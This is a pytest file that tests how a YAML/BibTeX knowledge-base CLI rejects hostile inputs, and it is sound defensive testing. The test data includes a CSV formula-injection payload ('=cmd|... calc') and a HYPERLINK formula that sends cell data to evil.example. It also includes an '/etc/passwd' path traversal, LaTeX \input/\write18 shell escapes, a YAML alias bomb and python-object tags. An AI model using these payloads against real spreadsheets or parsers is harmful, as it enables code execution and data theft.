"""A corpus of hostile and broken inputs (tests/hostile/): each gets a clear error naming the file,
a non-zero exit, no traceback, and nothing written."""

import contextlib
import csv
import io
import os
import re
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import bib_record
from evwm.cli import main

CORPUS = Path(__file__).parent / "hostile"

CASES = {
    "malformed.yaml": ":3: invalid YAML",
    "wrong-types.yaml": ":3: categories: must be a list, not the text 'inference/caching'",
    "yes-as-number.yaml": ":10: claims[0].value: must be a number, not true",
    "negative-claim.yaml": ":10: claims[0].value: is too small: at least 0",
    "number-key.yaml": ":2: the key '1' is read as a number, not a name",
    "unknown-field.yaml": ":8: speedup: is not a known field",
    "alias-bomb.yaml": ":2: YAML anchors and aliases (&name / *name) are not allowed",
    "python-tag.yaml": ":2: explicit YAML tags (such as !!python/object) are not allowed",
    "non-utf8.yaml": ":2: byte 0xe9 is not valid UTF-8 (save the file as UTF-8)",
    "path-traversal.yaml": ":1: id: '../../../etc/passwd' has characters that are not allowed",
    "javascript-url.yaml": ":9: links.code: must be an http:// or https:// URL",
    "duplicate-key.yaml": ":3: 'name' is given twice",
    "not-a-mapping.yaml": ":1: expected a mapping of field: value pairs",
    "empty.yaml": ":1: file is empty",
    "broken.bib": ":1: broken2025x: broken BibTeX record: the record is not closed before the end of the file",
    "unclosed-before-next.bib": ":1: unclosed2025x: broken BibTeX record: a new @record starts before this one is closed",
    "missing-key.bib": ":1: the record has no citation key (write @type{key, ...",
    "duplicate-field.bib": ":1: twourls2025x.url: the field 'url' is given more than once (keep one of them)",
    "stray-and.bib": ":1: strayand2025x.author[1]: 'Richard and Roe' holds a stray 'and' (separate authors with a single ' and ')",
    "empty-author.bib": ":1: emptyname2025x.author[1]: is empty (remove the extra ' and ' around it)",
    "crossref.bib": ":1: crossed2025x.crossref: crossref is not supported",
    "duplicate-key.bib": ":7: twice2025x: citation key 'twice2025x' is defined twice in this file",
    "missing-fields.bib": "nofields2025x.author: required field 'author' is missing",
    "non-utf8.bib": ":2: byte 0xe9 is not valid UTF-8",
    "javascript-url.bib": "url2025x.url: must be an http:// or https:// URL",
    "float-tag.yaml": ":10: claims[0].value: explicit YAML tags (such as !!float or !!python/...) are not allowed",
    "huge-int.yaml": ":10: claims[0].value: the number has more than 30 digits",
    "bad-date.yaml": ":7: training: '2024-02-30' is not allowed",
    "not-a-number.yaml": ":15: claims[1].value: must be a finite number, not .nan or .inf",
    "infinite.yaml": ":10: claims[0].value: must be a finite number, not .nan or .inf",
    "5000-digits.yaml": ":12: claims[0].gpus: the number has more than 30 digits (write a shorter number)",
    "binary-tag.yaml": ":2: name: explicit YAML tags (such as !!float or !!python/...) are not allowed",
    "local-tag.yaml": ":2: name: explicit YAML tags (such as !!float or !!python/...) are not allowed",
    # text fields are text: no HTML, no script links, no block syntax that rearranges the page
    "html-summary.yaml": ":5: summary: inline HTML (<...>) is not allowed here (write plain text;",
    "javascript-link.yaml": ":5: summary: links may only point to http(s) URLs or to other entries",
    "unclosed-fence.yaml": ":6: mechanism: a code fence (``` or ~~~) is not allowed here",
    "admonition.yaml": ":6: mechanism: an admonition (!!! or ???) is not allowed here",
    "page-title.yaml": ":5: summary: a second page title (# ...) is not allowed here",
    "remote-image.yaml": ":5: summary: a remote image (![...](https://...)) is not allowed here",
    "index.yaml": ":1: id: 'index' is reserved: the site has a page or folder of that name",
    # characters that hide, reorder or break lines
    "nel-summary.yaml": ":5: summary: holds the line separator U+0085",
    "line-separator-name.yaml": ":2: name: holds the line separator U+2028",
    "bidi-name.yaml": ":2: name: holds the bidirectional control character U+202E",
    "control-char.yaml": ":2: name: holds the control character U+0007, which is invisible (delete it)",
    "surrogate.yaml": "(inside double quotes a backslash starts an escape: write",
    # BibTeX that would forge fields or run code in the reader's LaTeX
    "forged-quoted.bib": "forged2025x.title: unbalanced braces",
    "latex-input.bib": "input2025x.title: LaTeX command \\input is not allowed in bibliographic data",
    "latex-write18.bib": "shell2025x.note: LaTeX command \\write is not allowed in bibliographic data",
    "superscript-year.bib": "sup2025x.year: year '\u00b2\u2070\u00b2\u2075' is not a four-digit year",
    "bidi.bib": "bidi2025x.title: holds the bidirectional control character U+202E",
    "string-bomb.bib": ":13: bomb10.author: @string abbreviations expand to more than 262,144 characters",
}


def evwm(root, *args):
    return subprocess.run(
        [sys.executable, "-m", "evwm.cli", "--root", str(root), *args], capture_output=True, text=True, timeout=120
    )


def run(root, *args) -> tuple[int, str]:
    """The command in this process (faster than a subprocess; an exception fails the test)."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(["--root", str(root), *args])
    return code, out.getvalue()


@pytest.fixture
def sample(sample):
    # Only what the corpus needs: the shipped base-model list names entries the sample lacks.
    (sample.root / "vocab/base-models.yaml").write_text("[]\n")
    return sample


def place(sample, name: str) -> Path:
    target = sample.root / ("bibliography" if name.endswith(".bib") else "entries/hostile") / f"hostile-{name}"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(CORPUS / name, target)
    return target


# Accepted as data (a name is free text), but it must reach every reader inert: here, a
# spreadsheet opening the CSV export, which would run a cell that starts with = + - @.
ACCEPTED = {"csv-formula.yaml"}


def test_every_corpus_file_has_a_case():
    assert sorted(p.name for p in CORPUS.iterdir()) == sorted([*CASES, *ACCEPTED])


def test_formula_cells_are_accepted_and_exported_inert(sample):
    (sample.root / "entries/hostile").mkdir()
    shutil.copy(CORPUS / "csv-formula.yaml", sample.root / "entries/hostile/csv-formula.yaml")
    sample.bib(bib_record("formula2025x", "=cmd|' /C calc'!A0 Fast Video", eprint="2509.00031"), name="formula")
    code, out = run(sample.root, "validate")
    assert code == 0, out
    code, out = run(sample.root, "export", "-f", "csv", "--id", "csv-formula")
    assert code == 0
    (row,) = [r for r in csv.reader(io.StringIO(out)) if r[0] == "csv-formula"]
    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' and row[2].startswith("'=cmd")
    assert all(not cell.startswith(("=", "+", "-", "@")) or re.fullmatch(r"-?\d+(\.\d+)?", cell) for cell in row)


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_input_is_refused_cleanly(sample, name):
    path = place(sample, name)
    before = path.read_bytes()
    result = evwm(sample.root, "validate")
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output
    relpath = path.relative_to(sample.root).as_posix()
    assert any(line.startswith(relpath) and CASES[name] in line for line in output.splitlines()), output
    # the build refuses too, and writes nothing
    assert run(sample.root, "build")[0] == 1
    assert not (sample.root / "site").exists()
    # fmt leaves a file it cannot read exactly as it was
    code, out = run(sample.root, "fmt")
    assert code == 1 and relpath in out
    assert path.read_bytes() == before
    # and export refuses to export from a knowledge base with errors
    assert run(sample.root, "export", "-f", "csv")[0] == 1
    assert not Path("/tmp/evwm-pwned").exists()


def test_oversized_file_and_fields(sample):
    big = sample.write("entries/main/huge.yaml", "id: huge\nname: x\n# " + "x" * 300_000 + "\n")
    sample.entry("long-name", name="N" * 400, cites=["roe2025tiny"])
    result = evwm(sample.root, "validate")
    assert result.returncode == 1
    assert "entries/main/huge.yaml:1: file is 300,020 bytes, larger than the 262,144 allowed" in result.stdout
    assert "entries/main/long-name.yaml:2: name: is too long: at most 300 characters (shorten it)" in result.stdout
    assert big.stat().st_size > 300_000


def test_a_huge_file_is_refused_without_being_read(sample):
    # a sparse 8 GiB file: read whole, it would exhaust memory before its size was checked
    for name in ("entries/main/giant.yaml", "bibliography/giant.bib"):
        with (sample.root / name).open("wb") as fh:
            fh.truncate(8 * 1024**3)

    def two_gib() -> None:  # far less than the file, far more than validate needs
        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))

    result = subprocess.run(
        [sys.executable, "-m", "evwm.cli", "--root", str(sample.root), "validate"],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=two_gib,
    )
    code, out = result.returncode, result.stdout + result.stderr
    assert code == 1 and "Traceback" not in out, out
    assert "entries/main/giant.yaml:1: file is 8,589,934,592 bytes, larger than the 262,144 allowed" in out
    assert "bibliography/giant.bib:1: file is 8,589,934,592 bytes, larger than the 1,048,576 allowed" in out


def test_deeply_nested_yaml(sample):
    sample.write("entries/main/deep.yaml", "id: " + "[" * 3000 + "]" * 3000 + "\n")
    result = evwm(sample.root, "validate")
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    assert "entries/main/deep.yaml:1: invalid YAML: nested too deeply" in result.stdout


def test_symbolic_links_are_not_followed(sample, tmp_path):
    secret = tmp_path / "secret.yaml"
    secret.write_text("id: secret\nname: Secret Stuff\n")
    os.symlink(secret, sample.root / "entries/main/secret.yaml")
    os.symlink(secret, sample.root / "bibliography/linked.bib")
    result = evwm(sample.root, "validate")
    assert result.returncode == 1
    assert "entries/main/secret.yaml: is a symbolic link to a file, which is not read" in result.stdout
    assert "bibliography/linked.bib: is a symbolic link to a file, which is not read" in result.stdout
    assert "Secret Stuff" not in result.stdout


@pytest.mark.parametrize("name", sorted(n for n in CASES if n.endswith(".bib")))
def test_new_refuses_hostile_bibtex(sample, name):
    before = {p: p.read_bytes() for p in sample.root.rglob("*") if p.is_file()}
    code, out = run(sample.root, "new", "--bibtex", str(CORPUS / name), "--category", "inference")
    assert code == 1 and out.startswith("error: "), out
    assert {p: p.read_bytes() for p in sample.root.rglob("*") if p.is_file()} == before


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("name: a: b\n", "1: invalid YAML: a ': ' where no new field can start (quote text that holds ': '"),
        ("name: 'unclosed\n", "2: invalid YAML: the file ends inside a quote or a bracket"),
        ("name: [a, b\n", "2: invalid YAML: a [list] is not closed (close it with ]"),
        ("name: {a: b\n", "2: invalid YAML: a {mapping} is not closed (close it with }"),
        ("name: x\n\tfoo: 1\n", "2: invalid YAML: a tab is used for indentation (indent with spaces only)"),
        ("name: x\nfoo\n", "3: invalid YAML: a line is neither 'field: value' nor a list item"),
        ("name: @foo\n", "1: invalid YAML: a value starts with a character YAML reserves (@, ` or %) (put the"),
        ("a:\n  - b\n c: d\n", "3: invalid YAML: a line's indentation does not match the lines above"),
        ("id: a\n---\nid: b\n", "2: invalid YAML: a second document ('---') in one file (one record per file"),
        ("name: *nope\n", "1: invalid YAML: YAML anchors and aliases (&name / *name) are not allowed"),
        ('name: "a\\qb"\n', "1: invalid YAML: an unknown escape (a backslash) inside double quotes"),
        ("id: x\n1: one\n", "2: the key '1' is read as a number, not a name"),
        ("id: x\nyes: one\n", "2: the key 'yes' is read as true/false, not a name"),
        ("id: x\n~: one\n", "2: the key '~' is read as an empty value, not a name"),
    ],
)
def test_yaml_syntax_errors_are_said_in_our_words(project, text, expected):
    project.write("entries/main/broken.yaml", text)
    code, out = run(project.root, "validate")
    assert code == 1 and "Traceback" not in out
    assert f"entries/main/broken.yaml:{expected}" in out, out


def test_a_broken_file_is_reported_once_not_in_every_record_naming_it(sample):
    # a taxonomy node, an entry and a .bib file that each fail to load
    node = sample.root / "taxonomy/inference/caching.yaml"
    node.write_text(node.read_text() + "oops: [\n")
    fast = sample.root / "entries/main/fast-cache.yaml"
    fast.write_text(fast.read_text() + "\tbad\n")
    bib = sample.root / "bibliography/main.bib"
    bib.write_bytes(bib.read_bytes().replace(b"Fast Caching", b"Fast Cach\xe9ing", 1))
    code, out = run(sample.root, "validate")
    assert code == 1
    errors = [line for line in out.splitlines() if line.startswith(("taxonomy/", "entries/", "bibliography/"))]
    errors = [line for line in errors if ": warning: " not in line]
    assert [line.split(":")[0] for line in errors] == [
        "bibliography/main.bib",
        "entries/main/fast-cache.yaml",
        "taxonomy/inference/caching.yaml",
    ], out
    assert "byte 0xe9 is not valid UTF-8" in errors[0]
    # the other records of the .bib file are still known, and nothing refers to a "missing" record
    assert "is not in bibliography/" not in out and "unknown entry" not in out and "does not exist" not in out


def test_a_broken_record_is_reported_once_not_in_every_entry_citing_it(sample):
    bib = sample.root / "bibliography/main.bib"
    # a second url makes the whole record unreadable; the entry citing it is not told it is missing
    bib.write_text(
        bib.read_text().replace(
            "  title = {Fast Caching",
            "  url = {https://a.example},\n  url = {https://b.example},\n  title = {Fast Caching",
            1,
        )
    )
    code, out = run(sample.root, "validate")
    assert code == 1
    errors = [
        line
        for line in out.splitlines()
        if line.startswith(("entries/", "bibliography/")) and ": warning: " not in line
    ]
    assert errors == [
        "bibliography/main.bib:1: doe2024fast.url: the field 'url' is given more than once (keep one of them)"
    ], out
    # a key that is missing for real is still reported
    bib.write_text(bib.read_text().replace("doe2024fast", "doe2024other", 1))
    code, out = run(sample.root, "validate")
    assert "citation key 'doe2024fast' is not in bibliography/" in out


def test_a_bad_byte_in_a_bib_file_leaves_it_untouched_by_fmt(sample):
    bib = sample.root / "bibliography/main.bib"
    bib.write_bytes(bib.read_bytes().replace(b"Fast Caching", b"Fast Cach\xe9ing", 1))
    before = bib.read_bytes()
    code, out = run(sample.root, "fmt")
    assert code == 1 and "bibliography/main.bib" in out
    assert bib.read_bytes() == before


def test_a_tab_before_a_list_item_is_named(project):
    project.write("entries/main/tabbed.yaml", "id: tabbed\ncategories:\n\t- inference/caching\n")
    code, out = run(project.root, "validate")
    assert code == 1
    assert "entries/main/tabbed.yaml:3: invalid YAML: a tab is used for indentation (indent with spaces only)" in out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("@misc{a,\n  title = {x},\n", "a: broken BibTeX record: the record is not closed before the end of the file"),
        ("@misc{a, title={x},\n@misc{b, title={y}}\n", "a: broken BibTeX record: a new @record starts before"),
        ("@misc{a, title = {x\n@misc{b, title={y}}\n", "a: broken BibTeX record: a new @record starts before"),
        ("@misc{a title={x}}\n", "broken BibTeX record: the key is not followed by a comma"),
        ("@misc{a, title {x}}\n", "a: broken BibTeX record: a field name is not followed by ="),
        ("@string{foo}\n", "broken BibTeX record: an @string is not written name = {value}"),
        (
            "@misc{a, author = {and and Doe, Jane}, title={x}, year={2025}}\n",
            "a.author[0]: is the word 'and' on its own",
        ),
    ],
)
def test_broken_bibtex_is_said_in_our_words(text, expected):
    # bibtexparser's own reasons are matched to ours: a new release that words them otherwise
    # fails here rather than reaching contributors as "this record cannot be read"
    from evwm.records.bib import parse_bib_text

    said = [f"{p.field}: {p.message}" if p.field else p.message for p in parse_bib_text(text, "x.bib").problems]
    assert any(line.startswith(expected) for line in said), said
